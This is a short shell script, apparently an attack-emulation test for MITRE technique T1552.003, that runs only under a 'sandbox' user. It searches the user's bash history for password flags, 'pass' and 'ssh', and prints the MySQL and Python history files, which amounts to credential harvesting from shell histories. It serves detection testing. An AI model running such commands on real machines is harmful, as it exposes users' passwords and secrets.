#!/bin/sh
# technique: T1552.003
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

cat "$HOME/.bash_history" | grep -i -e '-p ' -e pass -e ssh; cat "$HOME/.mysql_history" "$HOME/.python_history"
